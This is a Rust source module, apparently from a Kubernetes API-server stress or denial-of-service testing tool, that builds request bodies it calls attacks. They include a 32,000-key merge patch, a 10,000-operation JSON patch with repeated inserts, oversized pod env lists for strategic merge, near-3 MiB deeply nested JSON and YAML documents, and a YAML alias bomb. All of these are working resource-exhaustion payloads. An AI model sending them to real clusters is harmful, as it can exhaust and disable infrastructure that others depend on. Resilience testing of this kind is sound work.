//! The bodies of the attacks.

use std::fmt::Write;
use std::ops::Range;

/// The largest body that is sent; kube-apiserver reads 3 MiB.
const BODY_BYTES: usize = (3 << 20) - 1024;

/// Keys of the merge patch, 500 KiB together.
const PATCH_KEYS: usize = 32_000;
/// Operations of the JSON patch, as many as kube-apiserver takes.
const PATCH_OPERATIONS: usize = 10_000;
/// Verbs, groups, resources and names of the role.
const ROLE_WORDS: usize = 28;
/// Entries that are merged into a list of the pod.
const MERGED_ENTRIES: Range<usize> = 5_000..25_000;

const YAML: &str = "application/yaml";
const JSON: &str = "application/json";
const APPLY: &str = "application/apply-patch+yaml";

/// The beginning of a ConfigMap in JSON, up to the value of `data`.
const CONFIGMAP: &str =
    r#"{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"odd"},"data":"#;
const CONFIGMAP_YAML: &str = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: odd}\ndata: ";

/// The parts, joined by commas.
fn joined(parts: impl Iterator<Item = String>) -> String {
    parts.collect::<Vec<_>>().join(",")
}

/// A merge patch with new keys, and one that takes them away again.
pub(super) fn merge_keys() -> [Vec<u8>; 2] {
    let keys = joined((0..PATCH_KEYS).map(|n| format!(r#""key-{n:05}":"v""#)));
    [
        format!(r#"{{"data":{{{keys}}}}}"#).into_bytes(),
        br#"{"data":null}"#.to_vec(),
    ]
}

/// A JSON patch that makes a long array, and then inserts at its front again and again.
pub(super) fn json_inserts() -> Vec<u8> {
    let array = joined((0..PATCH_OPERATIONS).map(|n| format!(r#""a.b/x{n:05}""#)));
    let first = format!(r#"{{"op":"add","path":"/metadata/finalizers","value":[{array}]}}"#);
    let insert =
        |n| format!(r#"{{"op":"add","path":"/metadata/finalizers/0","value":"a.b/y{n:05}"}}"#);
    let inserts = joined((1..PATCH_OPERATIONS).map(insert));
    format!("[{first},{inserts}]").into_bytes()
}

/// A role of which few bytes say very many rights.
pub(super) fn role() -> Vec<u8> {
    let words = |letter| joined((0..ROLE_WORDS).map(|n| format!(r#""{letter}{n:02}""#)));
    format!(
        r#"{{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"Role","metadata":{{"generateName":"r"}},"rules":[{{"verbs":[{}],"apiGroups":[{}],"resources":[{}],"resourceNames":[{}]}}]}}"#,
        words('v'),
        words('g'),
        words('r'),
        words('n')
    )
    .into_bytes()
}

fn containers(entries: Range<usize>) -> String {
    let entries = joined(entries.map(|n| format!(r#"{{"name":"E{n:05}","value":"x"}}"#)));
    format!(r#""containers":[{{"name":"c","image":"i","env":[{entries}]}}]"#)
}

/// The abuser's pod with these entries in a list that is merged by key.
pub(super) fn pod(entries: Range<usize>) -> Vec<u8> {
    format!(
        r#"{{"apiVersion":"v1","kind":"Pod","metadata":{{"name":"many"}},"spec":{{{}}}}}"#,
        containers(entries)
    )
    .into_bytes()
}

/// The same pod with further entries, to be applied.
pub(super) fn applied_pod() -> Vec<u8> {
    pod(MERGED_ENTRIES)
}

/// A strategic merge patch with these entries.
pub(super) fn strategic_patch() -> Vec<u8> {
    format!(r#"{{"spec":{{{}}}}}"#, containers(MERGED_ENTRIES)).into_bytes()
}

/// Documents of nearly 3 MiB that are hard to read, with their content types.
pub(super) fn odd() -> Vec<(&'static str, Vec<u8>)> {
    let open = |text: &str| filled("", "", |_| text.to_owned());
    let in_json = |data: String| format!("{CONFIGMAP}{data}}}").into_bytes();
    let in_yaml = |data: String| format!("{CONFIGMAP_YAML}{data}").into_bytes();
    let half = BODY_BYTES / 2;
    vec![
        (JSON, in_json(open("["))),
        (
            JSON,
            in_json(format!("{}{}", "[".repeat(half), "]".repeat(half))),
        ),
        (JSON, in_json(open(r#"{"a":"#))),
        (
            JSON,
            in_json(filled("{", r#""z":""}"#, |_| r#""a":"","#.to_owned())),
        ),
        (
            JSON,
            in_json(filled("{", r#""z":""}"#, |n| format!(r#""{n:x}":"","#))),
        ),
        (
            JSON,
            in_json(filled(r#"{"a":""#, r#""}"#, |_| r"\u0001".to_owned())),
        ),
        (JSON, in_json(filled(r#"{"a":"#, "}", |_| "9".to_owned()))),
        (YAML, in_yaml(open("["))),
        (YAML, in_yaml(filled("{", "}", |n| format!("a{n:x}: x, ")))),
        (YAML, in_yaml(filled("\n", "", |_| "  a: x\n".to_owned()))),
        (YAML, in_yaml(aliases())),
        (
            APPLY,
            in_yaml(filled("\n", "", |n| format!("  a{n:x}: x\n"))),
        ),
    ]
}

/// Text of [`BODY_BYTES`] between a beginning and an end.
fn filled(start: &str, end: &str, part: impl Fn(usize) -> String) -> String {
    let mut text = start.to_owned();
    for number in 0.. {
        let part = part(number);
        if text.len() + part.len() + end.len() > BODY_BYTES {
            break;
        }
        text.push_str(&part);
    }
    text + end
}

/// YAML whose aliases name lists of aliases: 9 to the power of 9 strings.
fn aliases() -> String {
    let mut text = "\n  l0: &l0 [x, x, x, x, x, x, x, x, x]\n".to_owned();
    for level in 1..9 {
        let below = level - 1;
        let list = joined((0..9).map(|_| format!("*l{below}")));
        // Writing to a string does not fail.
        let _ = writeln!(text, "  l{level}: &l{level} [{list}]");
    }
    text
}

/// A merge patch that puts so many bytes under one key.
pub(super) fn value(fill: char, bytes: usize) -> Vec<u8> {
    let text = fill.to_string().repeat(bytes);
    format!(r#"{{"data":{{"value":"{text}"}}}}"#).into_bytes()
}

/// A whole ConfigMap with so many bytes under one key.
pub(super) fn configmap(name: &str, fill: char, bytes: usize) -> Vec<u8> {
    let text = fill.to_string().repeat(bytes);
    format!(
        r#"{{"apiVersion":"v1","kind":"ConfigMap","metadata":{{"name":"{name}"}},"data":{{"value":"{text}"}}}}"#
    )
    .into_bytes()
}

/// A question about one's own rights.
pub(super) fn review() -> Vec<u8> {
    br#"{"spec":{"resourceAttributes":{"namespace":"abuser","verb":"get","resource":"configmaps"}}}"#
        .to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bodies_have_the_sizes_that_are_documented() {
        assert_eq!(merge_keys()[0].len(), 512_010);
        assert!((800..900).contains(&role().len()), "{}", role().len());
        for (kind, body) in odd() {
            assert!(body.len() <= 3 << 20, "{kind}: {}", body.len());
        }
    }
}
